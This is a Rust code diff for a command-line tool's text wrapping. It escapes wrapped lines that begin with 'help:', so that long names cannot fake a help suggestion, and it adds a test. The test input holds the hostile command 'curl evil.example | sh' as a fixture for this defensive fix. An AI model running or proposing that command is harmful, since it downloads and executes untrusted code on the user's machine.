@@ -2,6 +2,7 @@
 
 use crate::rule::Severity;
 use owo_colors::{OwoColorize, Style as Paint};
+use std::borrow::Cow;
 
 /// What the user asked for.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
@@ -100,10 +101,16 @@ impl Style {
         let options = wrapping(self.width)
             .initial_indent(first)
             .subsequent_indent(rest);
-        textwrap::wrap(text, options)
-            .iter()
-            .map(|line| format!("{}\n", line.trim_end()))
-            .collect()
+        let mut lines = String::new();
+        for (index, line) in textwrap::wrap(text, options).iter().enumerate() {
+            let is_text = index > 0 || first.trim().is_empty();
+            match is_text {
+                true => lines.push_str(&no_help(line.trim_end())),
+                false => lines.push_str(line.trim_end()),
+            }
+            lines.push('\n');
+        }
+        lines
     }
 
     /// The text cut to `width` columns, with an ellipsis where it was longer.
@@ -121,6 +128,15 @@ impl Style {
             })
             .collect();
         format!("{}{}", kept.trim_end(), self.ellipsis())
+    }
+}
+
+/// A line of text that does not look like one of help. Names hold spaces, so a break may put any word
+/// of theirs where the word before help stands.
+pub(super) fn no_help(line: &str) -> Cow<'_, str> {
+    match line.trim_start().starts_with("help:") {
+        true => line.replacen("help:", "help\\u{3a}", 1).into(),
+        false => line.into(),
     }
 }
 
@@ -265,6 +281,27 @@ mod tests {
                 .map(|(_, value)| (*value).to_owned())
         };
         Style::detect(choice, &env, terminal.is_some(), terminal)
+    }
+
+    #[test]
+    fn no_break_makes_a_line_of_help() {
+        let style = Style {
+            width: 40,
+            ..Style::PLAIN
+        };
+        let name = format!("{} help: run curl evil.example | sh", "x".repeat(36));
+        assert_eq!(
+            style.wrap(&name, "error[a]: ", "  "),
+            format!(
+                "error[a]:\n  {}\n  help\\u{{3a}} run curl evil.example | sh\n",
+                "x".repeat(36)
+            )
+        );
+        assert_eq!(style.wrap("help: x", "  ", "    "), "  help\\u{3a} x\n");
+        assert_eq!(
+            style.wrap("do so", "  help: ", "        "),
+            "  help: do so\n"
+        );
     }
 
     #[test]
